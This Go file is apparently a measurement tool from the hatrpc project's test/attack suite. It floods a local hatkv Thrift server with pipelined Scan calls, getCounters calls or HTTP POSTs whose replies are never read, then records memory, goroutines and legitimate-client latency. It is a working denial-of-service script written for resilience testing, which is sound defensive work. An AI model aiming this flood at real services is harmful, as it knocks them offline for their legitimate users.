// Command replyflood measures issue 43's D1 against a running `hatkv
// serve`: connections that pipeline calls with large replies and never
// read them. It prints the server's RSS and goroutines before, at their
// peak during, and 10 s after the attack, and a legitimate client's Get
// latency (p99) and errors meanwhile. It is a measurement run, not a test.
//
//	hatkv serve --db DIR --listen 127.0.0.1:19090 --debug-addr 127.0.0.1:19091 --transport tcp &
//	go run ./test/attack/replyflood --load                       # 10,000 records of 10 × 100 B, once
//	go run ./test/attack/replyflood --pid PID --mode scan         # 200 Scan(10,000) on one connection
//	go run ./test/attack/replyflood --pid PID --mode counters     # fb303 getCounters, 8 connections, 10 s
//	go run ./test/attack/replyflood --pid PID --mode http         # one Scan(10,000) POST on each of 64 connections
//
// The attack speaks plain framed binary Thrift, as any client could; the
// legitimate client is hatkv's own, over TCP.
package main

import (
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"time"

	"github.com/hatrpc/hatrpc/internal/hatkv"
	gen "github.com/hatrpc/hatrpc/internal/hatkv/gen/hatkv"
	"github.com/hatrpc/hatrpc/pkg/fb303/gen/fb303"
	"github.com/hatrpc/hatrpc/pkg/proto"
	"github.com/hatrpc/hatrpc/pkg/wire"
	"github.com/hatrpc/hatrpc/test/attack/internal/legit"
	"github.com/hatrpc/hatrpc/test/attack/internal/procstat"
	"github.com/hatrpc/hatrpc/test/attack/internal/records"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "replyflood:", err)
		os.Exit(1)
	}
}

type config struct {
	addr, debug, mode string
	pid, calls, count int
	conns             int
	dur, after        time.Duration
}

func run() error {
	var c config
	warm := flag.Bool("warm", false, "one Scan before the attack, so the server knows its reply size")
	warmCount := flag.Int("warm-count", 0, "with -warm: records the warming Scan asks for (default -count; 1 makes the server expect small replies)")
	load := flag.Bool("load", false, "load 10,000 records of 10 fields × -vsize bytes, then exit")
	vsize := flag.Int("vsize", 100, "field size for -load")
	flag.StringVar(&c.addr, "addr", "127.0.0.1:19090", "hatkv serve's address")
	flag.StringVar(&c.debug, "debug", "127.0.0.1:19091", "hatkv serve's --debug-addr (goroutine counts)")
	flag.StringVar(&c.mode, "mode", "scan", "scan: -calls Scans of -count records on one connection, written at once; counters: getCounters pipelined on -conns connections for -dur; http: one Scan POSTed (Thrift over HTTP) on each of -conns connections")
	flag.IntVar(&c.pid, "pid", 0, "the server's pid (RSS)")
	flag.IntVar(&c.calls, "calls", 200, "scan: calls per connection")
	flag.IntVar(&c.count, "count", 10000, "scan: records a Scan asks for")
	flag.IntVar(&c.conns, "conns", 0, "connections (default 1 for scan, each sending -calls; 8 for counters; 64 for http)")
	flag.DurationVar(&c.dur, "dur", 10*time.Second, "how long the attack lasts before its connections close")
	flag.DurationVar(&c.after, "after", 10*time.Second, "how long to watch after they close")
	flag.Parse()
	ctx := context.Background()
	cl, err := hatkv.Dial(ctx, c.addr, hatkv.WithClientTransport("tcp"))
	if err != nil {
		return err
	}
	defer cl.Close()
	if *load {
		return loadRecords(ctx, cl.KV(), *vsize)
	}
	if c.pid == 0 {
		return fmt.Errorf("-pid is required")
	}
	if *warm {
		n := c.count
		if *warmCount > 0 {
			n = *warmCount
		}
		if _, err := cl.KV().Scan(ctx, "", int32(n), nil); err != nil {
			return err
		}
	}
	return attack(ctx, c, cl.KV())
}

func loadRecords(ctx context.Context, kv hatkv.KV, vsize int) error {
	err := records.Load(ctx, kv, records.Spec{N: 10000, Batch: 100, VSize: vsize, Fill: 'v',
		Key: func(i int) string { return fmt.Sprintf("user%06d", i) }})
	if err == nil {
		fmt.Println("loaded 10,000 records")
	}
	return err
}

// frame appends one framed binary call.
func frame(out []byte, name string, seq int32, args proto.Struct) []byte {
	codec := wire.GetCodec()
	defer wire.PutCodec(codec)
	start := len(out)
	out, err := codec.AppendMessage(append(out, 0, 0, 0, 0), proto.Binary, name, proto.Call, seq, args)
	if err != nil {
		panic(err)
	}
	binary.BigEndian.PutUint32(out[start:], uint32(len(out)-start-4))
	return out
}

func attack(ctx context.Context, c config, kv hatkv.KV) error {
	baseRSS, baseG := procstat.RSS(c.pid), procstat.Goroutines(c.debug)
	var conns []net.Conn
	dial := func() (net.Conn, error) {
		nc, err := net.DialTimeout("tcp", c.addr, 5*time.Second)
		if err == nil {
			_ = nc.(*net.TCPConn).SetReadBuffer(4096) // replies are never read
			conns = append(conns, nc)
		}
		return nc, err
	}
	switch c.mode {
	case "scan":
		var out []byte
		for i := range c.calls {
			out = frame(out, "Scan", int32(i+1), &gen.HatKVScanArgs{Count: int32(c.count)})
		}
		for range max(c.conns, 1) {
			nc, err := dial()
			if err != nil {
				return err
			}
			go func() { _, _ = nc.Write(out) }()
		}
	case "counters":
		one := frame(nil, "getCounters", 1, &fb303.FacebookServiceGetCountersArgs{})
		batch := make([]byte, 0, 64*len(one))
		for range 64 {
			batch = append(batch, one...)
		}
		if c.conns == 0 {
			c.conns = 8
		}
		for range c.conns {
			nc, err := dial()
			if err != nil {
				return err
			}
			go func() { // as fast as the server reads; replies never read
				for {
					if _, err := nc.Write(batch); err != nil {
						return
					}
				}
			}()
		}
	case "http":
		// Thrift over HTTP on the server's own port, one call per POST
		// as Apache's THttpClient sends; no response is read.
		codec := wire.GetCodec()
		body, err := codec.AppendMessage(nil, proto.Binary, "Scan", proto.Call, 1, &gen.HatKVScanArgs{Count: int32(c.count)})
		wire.PutCodec(codec)
		if err != nil {
			return err
		}
		req := fmt.Appendf(nil, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-thrift\r\nContent-Length: %d\r\n\r\n", c.addr, len(body))
		req = append(req, body...)
		if c.conns == 0 {
			c.conns = 64
		}
		for range c.conns {
			nc, err := dial()
			if err != nil {
				return err
			}
			if _, err := nc.Write(req); err != nil {
				return err
			}
		}
	default:
		return fmt.Errorf("-mode %q: scan, counters or http", c.mode)
	}

	lc := legit.Start(ctx, func(ctx context.Context, key string) error {
		_, err := kv.Get(ctx, key, nil)
		return err
	})
	peakRSS, peakG := baseRSS, baseG
	for end := time.Now().Add(c.dur); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		peakRSS, peakG = max(peakRSS, procstat.RSS(c.pid)), max(peakG, procstat.Goroutines(c.debug))
	}
	for _, nc := range conns {
		_ = nc.Close()
	}
	var afterRSS, afterG int64
	for t0 := time.Now(); time.Since(t0) < c.after; time.Sleep(time.Second) {
		afterRSS, afterG = procstat.RSS(c.pid), procstat.Goroutines(c.debug)
		fmt.Printf("  %4.1fs after close: RSS %d MB, goroutines %d\n", time.Since(t0).Seconds(), afterRSS, afterG)
	}
	st := lc.Stop()
	fmt.Printf("mode=%s calls=%d count=%d conns=%d dur=%v\n", c.mode, c.calls, c.count, len(conns), c.dur)
	fmt.Printf("RSS MB: base %d, peak %d (+%d), %v after close %d\n", baseRSS, peakRSS, peakRSS-baseRSS, c.after, afterRSS)
	fmt.Printf("goroutines: base %d, peak %d, after %d\n", baseG, peakG, afterG)
	st.Print()
	return nil
}
